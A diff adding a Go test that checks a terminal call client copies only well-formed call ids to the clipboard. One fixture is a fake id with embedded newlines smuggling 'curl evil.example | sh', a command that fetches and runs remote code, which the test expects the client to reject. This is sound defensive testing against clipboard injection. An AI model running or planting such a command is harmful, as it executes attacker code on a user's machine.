@@ -263,3 +263,32 @@ func TestHistoryFollowsTheLine(t *testing.T) {
 	h.key("tab")
 	h.noScreen("1 missed")
 }
+
+// Issue 10, break 6: :copy put the raw server id on the clipboard,
+// newlines included. Only ids that look like ids are copied.
+func TestCopyOnlyIDs(t *testing.T) {
+	for _, tt := range []struct {
+		id     string
+		copied bool
+	}{
+		{"Y2lzY29zcGFyazovL3VzL0NBTEwvMQ==", true},
+		{"Y2lz\ncurl evil.example | sh\n", false},
+	} {
+		var copied []string
+		h := newHarness(t, 120, 40, func(o *Options) {
+			o.clipboard = func(s string) tea.Cmd { copied = append(copied, s); return nil }
+		})
+		h.poll(connected(tt.id, "Jane Roe", "+14155550123", epoch()))
+		h.key(":")
+		h.typeText("copy")
+		h.key("enter")
+		switch {
+		case tt.copied && (len(copied) != 1 || copied[0] != tt.id):
+			t.Errorf("copied %q, want the call id", copied)
+		case !tt.copied && len(copied) != 0:
+			t.Errorf("an id with a line break went to the clipboard: %q", copied)
+		case !tt.copied && !strings.Contains(h.statusText(), "not an id"):
+			t.Errorf("status %q does not say why nothing was copied", h.statusText())
+		}
+	}
+}
